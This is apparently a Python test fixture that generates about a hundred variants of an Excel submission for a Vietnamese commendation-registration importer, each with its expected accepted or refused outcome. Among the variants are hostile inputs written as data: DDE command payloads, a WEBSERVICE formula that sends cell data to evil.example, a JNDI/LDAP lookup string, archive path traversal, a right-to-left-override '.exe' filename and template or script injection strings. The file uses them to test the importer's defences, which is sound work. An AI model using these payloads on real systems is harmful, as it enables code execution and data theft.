"""About a hundred variants of one sound submission, each with the state in which it has to end.

A variant is made from the bytes of a sound workbook by zip and XML surgery, or by openpyxl where somebody would have used Excel. Every
variant is of a unit of its own, with nominees of its own, so that all of them can lie in one inbox and none replaces another.
"""

from __future__ import annotations

import io
import re
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from email.message import EmailMessage
from functools import partial, reduce
from html import escape, unescape
from itertools import count, product
from pathlib import Path
from typing import Any, cast
from xml.etree import ElementTree as ET

from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.utils.datetime import CALENDAR_MAC_1904
from openpyxl.workbook.defined_name import DefinedName

from tests.sheets import Span, spans
from tests.sound import SOUND, UNIT, UNIT_NAME
from thidua_xlsx.campaign import Campaign
from thidua_xlsx.model import FileStatus
from thidua_xlsx.template import Line, write_workbook

ACCEPTED, REFUSED, IGNORED = FileStatus.ACCEPTED, FileStatus.REFUSED, FileStatus.IGNORED
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL = "evil.example"

Build = Callable[[bytes], bytes]
_SYLLABLES = [
    first + last for first, last in product(("B", "C", "D", "H", "K", "L", "M", "N", "S", "T", "V"), ("a", "e", "i", "o", "u", "ơ"))
]


@dataclass(frozen=True, slots=True)
class Variant:
    """One file of the inbox: how it is made from the sound bytes, its name, and what must become of it.

    ``codes`` are findings of which one must be said. ``same`` says that the register must hold the sound content, whatever the wrapping;
    ``words`` is a text typed into the file that the register must show as text.
    """

    name: str
    build: Build
    file: str = "{id}.xlsx"
    state: FileStatus = ACCEPTED
    codes: tuple[str, ...] = ()
    same: bool = False
    words: str = ""
    states: tuple[FileStatus, ...] = field(default=())


VARIANTS: list[Variant] = []


def _odd(name: str, **more: Any) -> Callable[[Build], Build]:
    """Merely odd: accepted, and the content arrives unchanged."""
    return _add(name, same=True, **more)


def _bad(name: str, *codes: str, **more: Any) -> Callable[[Build], Build]:
    """Refused with one of these codes."""
    return _add(name, codes=codes, **({"state": REFUSED} | more))


def _add(name: str, **more: Any) -> Callable[[Build], Build]:
    def keep(build: Build) -> Build:
        VARIANTS.append(Variant(name, build, **more))
        return build

    return keep


# The sound workbook ---------------------------------------------------------------------------------------------------


def unit_code(number: int) -> str:
    """The code of the unit whose file a variant is."""
    return f"V{number:03}"


def units_toml(most: int) -> str:
    """The units of all variants for the campaign file."""
    blocks = (f'[[unit]]\ncode = "{unit_code(n)}"\nname = "Đơn vị số {n}"\naliases = []\nkind = "phòng"\n' for n in range(most))
    return "\n".join(blocks)


def sound_bytes(campaign: Campaign, folder: Path) -> bytes:
    """The sound registration as one workbook of the unit QLN, with the results of all its formulas."""
    lines = {code: tuple(Line(cast("Mapping[str, Any]", row)) for row in rows) for code, rows in SOUND.items()}
    path = folder / "sound.xlsx"
    write_workbook(path, campaign, "so-ket-2023", UNIT, lines=lines)
    return path.read_bytes()


def tokens(number: int) -> dict[str, str]:
    """What a unit has for itself alone, by what stands in the sound workbook."""
    one, two = divmod(number, len(_SYLLABLES))
    words = f"{_SYLLABLES[two]} {_SYLLABLES[one]}"
    return {
        UNIT_NAME: f"Đơn vị số {number}",
        "Phòng Quản lý nhà": f"Tổ {words}",
        UNIT: unit_code(number),
        "Nguyễn Thị Ánh Nguyệt": f"Nguyễn {words}",
        "Trần Minh Quân": f"Trần {words}",
        "Lê Hoà An": f"Lê {words}",
        "091185001234": f"09118500{number:04}",
        "091079005678": f"09107900{number:04}",
        "091190004321": f"09119000{number:04}",
    }


def owned(raw: bytes, number: int) -> bytes:
    """The sound workbook as that unit's."""

    def own(content: bytes) -> bytes:
        for there, here in tokens(number).items():
            content = content.replace(there.encode(), here.encode())
        return content

    return pack({name: own(content) for name, content in parts(raw).items()})


# Surgery --------------------------------------------------------------------------------------------------------------


def parts(raw: bytes) -> dict[str, bytes]:
    """The members of a package in their order."""
    with zipfile.ZipFile(io.BytesIO(raw)) as package:
        return {name: package.read(name) for name in package.namelist()}


def pack(members: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A package of these members."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method, compresslevel=1) as package:
        for name, content in members.items():
            package.writestr(zipfile.ZipInfo(name, (2023, 6, 20, 8, 0, 0)), content, compress_type=method)
    return stream.getvalue()


def _rewritten(raw: bytes, edit: Callable[[str, bytes], bytes]) -> bytes:
    return pack({name: edit(name, content) for name, content in parts(raw).items()})


def _in_part(raw: bytes, part: str, edit: Callable[[bytes], bytes]) -> bytes:
    members = parts(raw)
    changed = edit(members[part])
    assert changed != members[part], part
    return pack({**members, part: changed})


def _in_sheets(raw: bytes, edit: Callable[[bytes], bytes]) -> bytes:
    return _rewritten(raw, lambda name, content: edit(content) if name.startswith("xl/worksheets/sheet") else content)


def _in_strings(raw: bytes, edit: Callable[[str], str]) -> bytes:
    """Every text of the workbook, headings included, edited."""

    def whole(content: bytes) -> bytes:
        return re.sub(
            rb"(<t[^>]*>)([^<]*)(</t>)",
            lambda hit: hit[1] + escape(edit(unescape(hit[2].decode())), quote=False).encode() + hit[3],
            content,
        )

    return _in_part(raw, "xl/sharedStrings.xml", whole)


def _in_book(raw: bytes, edit: Callable[[Workbook], object]) -> bytes:
    """The workbook after somebody worked in it with a program that rewrites all of it."""
    book = load_workbook(io.BytesIO(raw))
    edit(book)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def _more(raw: bytes, **new: bytes) -> bytes:
    """More members; ``__`` stands for ``/`` and the last ``_`` for the dot."""
    return pack({**parts(raw), **{name.replace("__", "/")[::-1].replace("_", ".", 1)[::-1]: content for name, content in new.items()}})


def _part_of(raw: bytes, sheet: str) -> str:
    book = parts(raw)["xl/workbook.xml"].decode()
    names = re.findall(r'<sheet [^>]*name="([^"]*)"', book)
    return f"xl/worksheets/sheet{names.index(sheet) + 1}.xml"


def _spans(raw: bytes) -> dict[str, Span]:
    return spans(load_workbook(io.BytesIO(raw)))


def _put(raw: bytes, column: str, row: int, inner: str, kind: str = "") -> bytes:
    """Other XML in one cell of line ``row`` of ``table.column``."""
    span = _spans(raw)[column]
    place = f"{get_column_letter(span.column)}{span.first + row}"
    cell = re.compile(rb'<c r="%s"((?: s="\d+")?)[^>]*?(?:/>|>.*?</c>)' % place.encode())
    fresh = rf'<c r="{place}"\1{kind}>{inner}</c>'.encode()
    return _in_part(raw, _part_of(raw, span.sheet), lambda content: cell.sub(lambda hit: fresh.replace(rb"\1", hit[1]), content, count=1))


def _texted(raw: bytes, words: str) -> bytes:
    """A text in the fourth achievement and the first piece of evidence, exactly as given."""
    inner = f'<is><t xml:space="preserve">{escape(words, quote=False)}</t></is>'
    for column, row in (("achievements.description", 3), ("evidence.title", 0)):
        raw = _put(raw, column, row, inner, ' t="inlineStr"')
    return raw


def _parsed(content: bytes, edit: Callable[[ET.Element], object], prefix: str = "") -> bytes:
    for name, uri in ((prefix, MAIN), ("r", RELATIONS)):
        ET.register_namespace(name, uri)
    root = ET.fromstring(content)  # noqa: S314
    edit(root)
    written = cast("bytes", ET.tostring(root, encoding="UTF-8", xml_declaration=True))
    ET.register_namespace("", MAIN)
    return written


def _unchanged(raw: bytes) -> bytes:
    return raw


# Merely odd: the package ----------------------------------------------------------------------------------------------

_odd("as issued")(_unchanged)
_odd("stored, not compressed")(lambda raw: pack(parts(raw), zipfile.ZIP_STORED))
_odd("members in reverse order")(lambda raw: pack(dict(reversed(parts(raw).items()))))
_odd("bytes after the archive")(lambda raw: raw[:-2] + struct.pack("<H", 9) + b"ghi ch\xc3\xba")
_odd("folders as members")(lambda raw: pack({"xl/": b"", "xl/worksheets/": b"", **parts(raw)}))
_odd("calculation chain that leads nowhere")(lambda raw: _more(raw, xl__calcChain_xml=b"<calcChain/>"))
_odd("byte order marks")(lambda raw: _rewritten(raw, lambda name, content: b"\xef\xbb\xbf" + content if name.endswith(".xml") else content))
_odd("no custom properties")(lambda raw: pack({name: content for name, content in parts(raw).items() if name != "docProps/custom.xml"}))


@_odd("data descriptors")
def _(raw: bytes) -> bytes:
    class Pipe(io.BytesIO):
        def seekable(self) -> bool:
            return False

        def tell(self) -> int:
            raise OSError

        def seek(self, *_: Any) -> int:
            raise OSError

    stream = Pipe()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts(raw).items():
            package.writestr(name, content)
    return stream.getvalue()


@_odd("ZIP64 records")
def _(raw: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts(raw).items():
            with package.open(name, "w", force_zip64=True) as member:
                member.write(content)
    return stream.getvalue()


@_odd("backslashes in part names")
def _(raw: bytes) -> bytes:
    return pack(
        {name.replace("/", "\\") if name.startswith("xl/worksheets/sheet") else name: content for name, content in parts(raw).items()}
    )


@_odd("absolute targets")
def _(raw: bytes) -> bytes:
    return _in_part(raw, "xl/_rels/workbook.xml.rels", lambda content: content.replace(b'Target="', b'Target="/xl/'))


# Merely odd: the XML --------------------------------------------------------------------------------------------------

_STRICT = {
    MAIN.encode(): b"http://purl.oclc.org/ooxml/spreadsheetml/main",
    RELATIONS.encode(): b"http://purl.oclc.org/ooxml/officeDocument/relationships",
}


@_odd("Strict Open XML")
def _(raw: bytes) -> bytes:
    def strict(_: str, content: bytes) -> bytes:
        for old, new in _STRICT.items():
            content = content.replace(old, new)
        return content

    return _rewritten(raw, strict)


@_odd("namespace prefixes")
def _(raw: bytes) -> bytes:
    return _rewritten(
        raw,
        lambda name, content: (
            _parsed(content, lambda _: None, "x") if re.fullmatch(r"xl/(workbook|sharedStrings|worksheets/.*)\.xml", name) else content
        ),
    )


@_odd("indented XML")
def _(raw: bytes) -> bytes:
    return _in_sheets(raw, lambda content: _parsed(content, ET.indent))


@_odd("character references")
def _(raw: bytes) -> bytes:
    return _rewritten(
        raw,
        lambda name, content: (
            content.decode().encode("ascii", "xmlcharrefreplace") if name.startswith("xl/") and name.endswith(".xml") else content
        ),
    )


@_odd("CDATA sections")
def _(raw: bytes) -> bytes:
    def marked(content: bytes) -> bytes:
        return re.sub(
            rb"(<t[^>]*>)([^<]*)(</t>)", lambda hit: hit[1] + b"<![CDATA[" + unescape(hit[2].decode()).encode() + b"]]>" + hit[3], content
        )

    return _in_part(raw, "xl/sharedStrings.xml", marked)


@_odd("rich text in two runs")
def _(raw: bytes) -> bytes:
    def split(hit: re.Match[bytes]) -> bytes:
        words = hit[1].decode()
        middle = len(words) // 2
        if "&" in words or not words:
            return hit[0]
        runs = (f'<r><t xml:space="preserve">{escape(part)}</t></r>' for part in (words[:middle], words[middle:]))
        return f"<si>{''.join(runs)}</si>".encode()

    return _in_part(raw, "xl/sharedStrings.xml", lambda content: re.sub(rb"<si><t[^>]*>([^<]*)</t></si>", split, content))


@_odd("pronunciation beside the text")
def _(raw: bytes) -> bytes:
    extra = '</t><rPh sb="0" eb="1"><t>カナ</t></rPh></si>'.encode()
    return _in_part(raw, "xl/sharedStrings.xml", lambda content: content.replace(b"</t></si>", extra))


@_odd("comments and instructions in the XML")
def _(raw: bytes) -> bytes:
    return _in_sheets(raw, lambda content: content.replace(b"<sheetData>", b"<!-- x --><?y z?><sheetData><!-- <c r='A1'/> -->"))


@_odd("inline strings")
def _(raw: bytes) -> bytes:
    strings = re.findall(rb"<si>(<t[^>]*>[^<]*</t>|<t/>)</si>", parts(raw)["xl/sharedStrings.xml"])
    cell = re.compile(rb'<c ([^>]*?) t="s"><v>(\d+)</v></c>')
    return _in_sheets(
        raw, lambda content: cell.sub(lambda hit: b"<c " + hit[1] + b' t="inlineStr"><is>' + strings[int(hit[2])] + b"</is></c>", content)
    )


@_odd("texts as results without formulas")
def _(raw: bytes) -> bytes:
    strings = re.findall(rb"<si><t[^>]*>([^<]*)</t></si>", parts(raw)["xl/sharedStrings.xml"])
    cell = re.compile(rb'<c ([^>]*?) t="s"><v>(\d+)</v></c>')
    return _in_sheets(
        raw, lambda content: cell.sub(lambda hit: b"<c " + hit[1] + b' t="str"><v>' + strings[int(hit[2])] + b"</v></c>", content)
    )


@_odd("cells without addresses")
def _(raw: bytes) -> bytes:
    def bare(root: ET.Element) -> None:
        data = root.find(f"{{{MAIN}}}sheetData")
        assert data is not None
        for row_number, row in zip(count(1), _filled(list(data), f"{{{MAIN}}}row"), strict=False):
            if row_number == 1:
                data[:] = []
            row.attrib.pop("r", None)
            row.attrib.pop("spans", None)
            row[:] = _filled(list(row), f"{{{MAIN}}}c")
            for cell in row:
                cell.attrib.pop("r", None)
            data.append(row)

    return _in_sheets(raw, lambda content: _parsed(content, bare))


def _filled(elements: list[ET.Element], tag: str) -> list[ET.Element]:
    """The elements with empty ones in the gaps, by row number or column letter."""
    known = {_position(element.get("r", "")): element for element in elements}
    return [known.get(number, ET.Element(tag)) for number in range(1, max(known, default=0) + 1)]


def _position(place: str) -> int:
    if place.isdecimal():
        return int(place)
    number = 0
    for letter in place.rstrip("0123456789"):
        number = number * 26 + ord(letter) - 64
    return number


def _dimension(said: bytes) -> Build:
    return lambda raw: _in_sheets(raw, lambda content: re.sub(rb"<dimension[^>]*/>", said, content))


_odd("dimension says A1")(_dimension(b'<dimension ref="A1"/>'))
_odd("dimension says everything")(_dimension(b'<dimension ref="A1:XFD1048576"/>'))
_odd("no dimension")(_dimension(b""))
_odd("counts of strings that lie")(
    lambda raw: _in_part(raw, "xl/sharedStrings.xml", lambda content: re.sub(rb'ount="\d+"', b'ount="1"', content))
)
_odd("figures in scientific notation")(lambda raw: _put(raw, "achievements.value_vnd", 0, "<v>1.5E6</v>"))
_odd("figure as text")(lambda raw: _put(raw, "achievements.value_vnd", 0, "<is><t>1500000</t></is>", ' t="inlineStr"'))
_odd("formula with its result")(lambda raw: _put(raw, "achievements.value_vnd", 0, "<f>750000*2</f><v>1500000</v>"))
_odd("array formula with its result")(
    lambda raw: _put(raw, "achievements.value_vnd", 0, '<f t="array" ref="A1">SUM({750000,750000})</f><v>1500000</v>')
)
_odd("a hundred thousand formatted empty rows")(
    lambda raw: _in_part(
        raw,
        _part_of(raw, "Thành tích"),
        lambda content: content.replace(
            b"</sheetData>", b"".join(b'<row r="%d" s="1" customFormat="1"/>' % n for n in range(1000, 100_000)) + b"</sheetData>"
        ),
    )
)
_odd("formatted empty cells far to the right")(
    lambda raw: _in_part(
        raw,
        _part_of(raw, "Minh chứng"),
        lambda content: content.replace(
            b"</sheetData>",
            b"".join(
                b'<row r="%d">' % n
                + b"".join(b'<c r="%s%d" s="1"/>' % (get_column_letter(c).encode(), n) for c in range(40, 400))
                + b"</row>"
                for n in range(200, 260)
            )
            + b"</sheetData>",
        ),
    )
)

# Merely odd: texts ----------------------------------------------------------------------------------------------------

_odd("decomposed letters (NFD)")(lambda raw: _in_strings(raw, lambda words: unicodedata.normalize("NFD", words)))
_odd("decomposed letters in sheet names too")(
    lambda raw: _rewritten(
        raw, lambda name, content: unicodedata.normalize("NFD", content.decode()).encode() if name.endswith(".xml") else content
    )
)
_odd("non-breaking blanks")(lambda raw: _in_strings(raw, lambda words: words.replace(" ", "\u00a0")))
_odd("zero-width blanks")(lambda raw: _in_strings(raw, lambda words: words if words.startswith("form.") else words.replace(" ", " \u200b")))
_odd("blanks around every text")(
    lambda raw: _in_part(
        raw, "xl/sharedStrings.xml", lambda content: re.sub(rb"<t[^>]*>(?!form)([^<]+)</t>", rb'<t xml:space="preserve">  \1 </t>', content)
    )
)

# Merely odd: names and sheets -----------------------------------------------------------------------------------------

_NAMES = re.compile(rb"<definedNames>.*?</definedNames>", re.DOTALL)


def _in_workbook(edit: Callable[[bytes], bytes]) -> Build:
    return lambda raw: _in_part(raw, "xl/workbook.xml", edit)


_no_names = _in_workbook(lambda content: _NAMES.sub(b"", content))
_odd("no defined names")(_no_names)
_odd("no defined names, no properties")(
    lambda raw: pack({name: content for name, content in parts(_no_names(raw)).items() if name != "docProps/custom.xml"})
)
_odd("defined names that are #REF!")(_in_workbook(lambda content: re.sub(rb"(<definedName [^>]*>)[^<]*<", rb"\1#REF!<", content)))
_odd("defined names of sheets that are gone")(
    _in_workbook(lambda content: re.sub(rb"(<definedName [^>]*>)(?:'[^<'!]*'|[^<'!( ]+)!", rb"\1'[1]Sheet9'!", content))
)
_odd("hidden defined names")(_in_workbook(lambda content: re.sub(rb"<definedName (?![^>]*hidden)", b'<definedName hidden="1" ', content)))
_odd("five thousand more defined names")(
    _in_workbook(
        lambda content: content.replace(
            b"</definedNames>", b"".join(b'<definedName name="x%d">"x"</definedName>' % n for n in range(5000)) + b"</definedNames>"
        )
    )
)
_odd("sheet renamed, names kept up")(
    _in_workbook(lambda content: content.replace("Thành tích".encode(), b"Sheet3").replace("Cá nhân".encode(), b"CN (2)"))
)
_odd("sheets renamed, names lost")(
    lambda raw: _no_names(
        _in_workbook(lambda content: re.sub(rb'(<sheet name=")[^"]*("[^>]*r:id="rId(\d+)")', rb"\1Trang \3\2", content))(raw)
    )
)
_odd("hidden sheets")(lambda raw: _in_book(raw, lambda book: [setattr(sheet, "sheet_state", "hidden") for sheet in book.worksheets[2:]]))
_odd("very hidden sheets")(
    lambda raw: _in_book(raw, lambda book: [setattr(sheet, "sheet_state", "veryHidden") for sheet in book.worksheets[2:]])
)
_odd("saved by another program")(lambda raw: _in_book(raw, lambda book: None))
_odd("dates counted from 1904")(lambda raw: _in_book(raw, lambda book: setattr(book, "epoch", CALENDAR_MAC_1904)))
_odd("copy of a sheet")(lambda raw: _in_book(raw, lambda book: book.copy_worksheet(book["Cá nhân"])))
_odd("chart sheet first")(lambda raw: _in_book(raw, lambda book: book.create_chartsheet("Biểu đồ", 0)))
_odd("protection off")(lambda raw: _in_book(raw, lambda book: [sheet.protection.disable() for sheet in book.worksheets]))


@_odd("protection with a password")
def _(raw: bytes) -> bytes:
    def protect(book: Workbook) -> None:
        for sheet in book.worksheets:
            sheet.protection.set_password("mat-khau")

    return _in_book(raw, protect)


@_odd("sheets in reverse order")
def _(raw: bytes) -> bytes:
    def reverse(book: Workbook) -> None:
        for sheet in list(book.worksheets):
            book.move_sheet(sheet, offset=-book.index(sheet))

    return _in_book(raw, reverse)


@_odd("extra sheets")
def _(raw: bytes) -> bytes:
    def extend(book: Workbook) -> None:
        book.create_sheet("Nháp", 0).append(["Họ và tên", "Ngày sinh", "ghi chú nội bộ"])
        book.create_sheet("Sheet1").append([1, 2, 3])

    return _in_book(raw, extend)


@_odd("hidden rows, columns, filter and outline")
def _(raw: bytes) -> bytes:
    def hide(book: Workbook) -> None:
        for name in ("Cá nhân", "Thành tích"):
            sheet = book[name]
            sheet.row_dimensions[7].hidden = True
            sheet.column_dimensions["F"].hidden = True
            sheet.row_dimensions.group(8, 9, hidden=True)
            sheet.auto_filter.ref = "C5:H20"
            sheet.auto_filter.add_filter_column(1, ["x"])

    return _in_book(raw, hide)


@_odd("white and formatted away")
def _(raw: bytes) -> bytes:
    def whiten(book: Workbook) -> None:
        span = spans(book)["achievements.value_vnd"]
        for row in range(span.first, span.last):
            cell = book[span.sheet].cell(row, span.column)
            cell.font, cell.number_format = Font(color="FFFFFF"), ";;;"

    return _in_book(raw, whiten)


@_odd("merged headings and entries")
def _(raw: bytes) -> bytes:
    def merge(book: Workbook) -> None:
        known = spans(book)
        title, last = known["evidence.title"], known["evidence.file_name"]
        book[last.sheet].merge_cells(start_row=last.first, end_row=last.first, start_column=last.column, end_column=last.column + 2)
        book[title.sheet].merge_cells(
            start_row=title.first - 1, end_row=title.first - 1, start_column=last.column, end_column=last.column + 2
        )

    return _in_book(raw, merge)


@_odd("comments and links")
def _(raw: bytes) -> bytes:
    def link(book: Workbook) -> None:
        known = spans(book)
        for column, target in (
            ("evidence.title", f"http://{EVIL}/"),
            ("individuals.full_name", f"\\\\{EVIL}\\share\\x"),
            ("achievements.description", f"mailto:a@{EVIL}"),
        ):
            cell = book[known[column].sheet].cell(known[column].first, known[column].column)
            words = cell.value
            cell.hyperlink = target
            cell.value = words
            cell.comment = Comment(f"=cmd|'/C calc'!A0 {EVIL}", "x")

    return _in_book(raw, link)


@_odd("total row below the table")
def _(raw: bytes) -> bytes:
    def add(book: Workbook) -> None:
        known = spans(book)
        row = known["achievements.kind"].first + 6
        book["Thành tích"].cell(row, known["achievements.description"].column).value = "Tổng cộng"
        book["Thành tích"].cell(row, known["achievements.value_vnd"].column).value = 3_500_000

    return _in_book(raw, add)


@_odd("notes beside and below the tables", codes=("S205",))
def _(raw: bytes) -> bytes:
    def add(book: Workbook) -> None:
        book["Thành tích"].cell(7, 60).value = "ghi chú ngoài bảng"

    return _in_book(raw, add)


@_odd("gaps between the rows")
def _(raw: bytes) -> bytes:
    def move(book: Workbook) -> None:
        known = {name.split(".")[1]: span for name, span in spans(book).items() if name.startswith("evidence.")}
        sheet = book["Minh chứng"]
        for span in known.values():
            sheet.cell(span.first + 4, span.column).value = sheet.cell(span.first + 1, span.column).value
            sheet.cell(span.first + 1, span.column).value = None

    return _in_book(raw, move)


def _shifted(book: Workbook, sheet: str, rows: int, columns: int) -> None:
    """The names of a sheet's cells after rows above and columns left of them were inserted."""
    for name, definition in list(book.defined_names.items()):
        if f"'{sheet}'!" in definition.attr_text:
            moved = re.sub(
                r"\$([A-Z]+)\$(\d+)",
                lambda hit: f"${get_column_letter(_position(hit[1]) + columns)}${int(hit[2]) + rows}",
                definition.attr_text,
            )
            book.defined_names[name] = DefinedName(name, attr_text=moved)


def _inserted(rows: int, columns: int, *, names: bool) -> Build:
    def insert(book: Workbook) -> None:
        sheet = book["Cá nhân"]
        for area in list(sheet.merged_cells.ranges):
            sheet.unmerge_cells(str(area))
        sheet.insert_rows(1, rows) if rows else sheet.insert_cols(1, columns)
        if names:
            _shifted(book, "Cá nhân", rows, columns)
        else:
            for name in [name for name in book.defined_names if name.startswith("individuals.")]:
                del book.defined_names[name]

    return lambda raw: _in_book(raw, insert)


_odd("rows inserted above, names kept up")(_inserted(3, 0, names=True))
_odd("rows inserted above, names lost")(_inserted(3, 0, names=False))
_odd("columns inserted, names kept up")(_inserted(0, 2, names=True))
_odd("columns inserted, names lost")(_inserted(0, 2, names=False))


def _swapped(*, names: bool) -> Build:
    """Two columns with their headings change places."""

    def swap(book: Workbook) -> None:
        one, two = (spans(book)[f"individuals.{code}"] for code in ("full_name", "citizen_id"))
        sheet = book[one.sheet]
        for row in range(one.first - 1, one.last + 1):
            left, right = sheet.cell(row, one.column), sheet.cell(row, two.column)
            left.value, right.value = right.value, left.value
        if names:
            first, second = (book.defined_names[f"individuals.{code}"].attr_text for code in ("full_name", "citizen_id"))
            book.defined_names["individuals.full_name"] = DefinedName("individuals.full_name", attr_text=second)
            book.defined_names["individuals.citizen_id"] = DefinedName("individuals.citizen_id", attr_text=first)
        else:
            for name in [name for name in book.defined_names if name.startswith("individuals.")]:
                del book.defined_names[name]

    return lambda raw: _in_book(raw, swap)


_odd("columns moved, names kept up")(_swapped(names=True))
_odd("columns moved, names lost")(_swapped(names=False))

# Merely odd: things in the package that are never run or followed -----------------------------------------------------

_LINK = (
    f'<externalLink xmlns="{MAIN}"><ddeLink xmlns:r="{RELATIONS}" ddeService="cmd" ddeTopic="/C calc">'
    '<ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>'
).encode()


def _related(raw: bytes, kind: str, target: str, content: bytes) -> bytes:
    """A part that the workbook refers to."""
    relation = f'<Relationship Id="rId999" Type="{RELATIONS}/{kind}" Target="{target}"/></Relationships>'.encode()
    raw = _in_part(raw, "xl/_rels/workbook.xml.rels", lambda rels: rels.replace(b"</Relationships>", relation))
    return pack({**parts(raw), f"xl/{target}": content})


_odd("DDE link")(lambda raw: _related(raw, "externalLink", "externalLinks/externalLink1.xml", _LINK))
_odd("external connection")(
    lambda raw: _related(
        raw,
        "connections",
        "connections.xml",
        f'<connections xmlns="{MAIN}"><connection id="1" name="x" type="4"><webPr url="http://{EVIL}/x"/></connection></connections>'.encode(),
    )
)
_odd("embedded object")(lambda raw: _more(raw, xl__embeddings__oleObject1_bin=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)))
_odd("digital signature")(lambda raw: _more(raw, _xmlsignatures__sig1_xml=b"<Signature/>"))


@_odd("macros", file="{id}.xlsm")
def _(raw: bytes) -> bytes:
    raw = _related(raw, "vbaProject", "vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))
    plain, macro = b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
    return _in_part(raw, "[Content_Types].xml", lambda content: content.replace(b"openxmlformats-officedocument." + plain, macro))


# Merely odd: names of files -------------------------------------------------------------------------------------------

for _name, _file in {
    "capital ending": "{id}.XLSX",
    "no ending": "{id}",
    "another program's ending": "{id}.xls",
    "long name": "{id} " + "rất dài " * 20 + ".xlsx",
    "decomposed name": unicodedata.normalize("NFD", "{id} phiếu đăng ký của đơn vị.xlsx"),
    "formula as a name": "={id}+cmd.xlsx",
    "template as a name": "{{{{7*7}}}} {id}.xlsx",
    "markup as a name": "{id} A&B <x>'y'.xlsx",
    "dashes first": "--output={id}.xlsx",
    "deep folder": "a/b/c/đ/e/{id}.xlsx",
    "folder that looks like a workbook": "folder.xlsx/{id}.xlsx",
    "line break in the name": "{id}\nx.xlsx",
    "name that turns direction": "{id}\u202exslx.exe.xlsx",
    "escape code in the name": "{id}\x1b[31m.xlsx",
}.items():
    _odd(_name, file=_file)(_unchanged)


# Wrapped --------------------------------------------------------------------------------------------------------------


@_odd("in a mail", file="{id}.eml")
def _(raw: bytes) -> bytes:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "a@example.vn", "b@example.vn", "Phiếu đăng ký"
    mail["Date"] = "Tue, 20 Jun 2023 08:00:00 +0700"
    mail.set_content("Kính gửi")
    mail.add_attachment(raw, maintype="application", subtype="octet-stream", filename="phiếu.xlsx")
    return mail.as_bytes()


_odd("in an archive", file="{id}.zip")(lambda raw: pack({"thư mục/phiếu.xlsx": raw}))
_odd("in an archive that climbs out", file="{id}.zip")(lambda raw: pack({"../../../phiếu.xlsx": raw}))

_bad("archive in an archive, six times", "W164", file="{id}.zip")(
    lambda raw: reduce(lambda inner, n: pack({f"{n}.zip": inner}), range(6), raw)
)

# Texts that try something ---------------------------------------------------------------------------------------------

_TEXTS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    f'=HYPERLINK("http://{EVIL}/x","bấm")',
    f'=WEBSERVICE("http://{EVIL}/"&A1)',
    "+84 297 381 1222",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1 thụt",
    "\u00a0=1+1 dính",
    "＝1+1 toàn giác",
    "\u200b=1+1 vô hình",
    "'=1+1 nháy",
    "{{7*7}} kiến nghị sửa mẫu văn bản của Sở",
    "{% for x in range(9) %}x{% endfor %}",
    "{# ghi chú #}",
    "</w:t></w:r></w:p> đóng thẻ",
    "<script>alert(1)</script>",
    "&lt;b&gt; &amp;amp;",
    f"http://{EVIL}/lien-ket",
    f"file://{EVIL}/x",
    f"\\\\{EVIL}\\share\\x.xlsx",
    f"mailto:a@{EVIL}",
    f"internal:'Đơn vị'!A1 {EVIL}",
    "chuông _x0007_ kêu",
    "xuống _x000D__x000A_ dòng",
    "\u202eogn yảđ",
    "\ufeffdấu thứ tự",
    "😀 🇻🇳 mặt cười",
    "%n%s%x {0} {}",
    "${jndi:ldap://" + EVIL + "/a}",
    "dài " * 8000,
    "một\ndòng\nkhác",
)
for _words in _TEXTS:
    _add(f"text {_words[:24]!r}", words=_words)(partial(_texted, words=_words))

# Said about the content, not about the file ---------------------------------------------------------------------------

_add("formula without a result", codes=("C325",))(lambda raw: _put(raw, "achievements.value_vnd", 0, "<f>750000*2</f>"))
_add("error value", codes=("C324",))(lambda raw: _put(raw, "achievements.value_vnd", 0, "<v>#REF!</v>", ' t="e"'))
_add("error value of a newer Excel", codes=("C324",), states=(ACCEPTED, REFUSED))(
    lambda raw: _put(raw, "achievements.value_vnd", 0, "<v>#SPILL!</v>", ' t="e"')
)
_add("date before all dates", states=(ACCEPTED,))(lambda raw: _put(raw, "individuals.birth_date", 0, "<v>-1</v>"))
_add("date after all dates", states=(ACCEPTED,))(lambda raw: _put(raw, "individuals.birth_date", 0, "<v>2958466</v>"))
_add("figure beyond all figures", states=(ACCEPTED, REFUSED))(lambda raw: _put(raw, "achievements.value_vnd", 0, "<v>1E400</v>"))
_add("no styles", states=(ACCEPTED,))(lambda raw: pack({name: content for name, content in parts(raw).items() if name != "xl/styles.xml"}))
_add("UTF-16 parts", states=(ACCEPTED, REFUSED))(
    lambda raw: _in_sheets(raw, lambda content: content.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"))
)

# Refused: the container -----------------------------------------------------------------------------------------------

_bad("empty", "W102")(lambda raw: b"")
_bad("cut in half", "W110")(lambda raw: raw[: len(raw) // 2])
_bad("end cut off", "W110")(lambda raw: raw[:-22])
_bad("wrong checksum", "W110")(
    lambda raw: raw.replace(struct.pack("<I", zlib.crc32(parts(raw)["xl/sharedStrings.xml"])), b"\x01\x02\x03\x04")
)
_bad("no workbook part", "W110")(lambda raw: pack({name: content for name, content in parts(raw).items() if name != "xl/workbook.xml"}))
_bad("no sheet parts", "W110", "W113", "S201")(
    lambda raw: pack({name: content for name, content in parts(raw).items() if "worksheets/sheet" not in name})
)
_bad("broken XML", "W110", "S206")(lambda raw: _in_sheets(raw, lambda content: content[: len(content) // 2]))
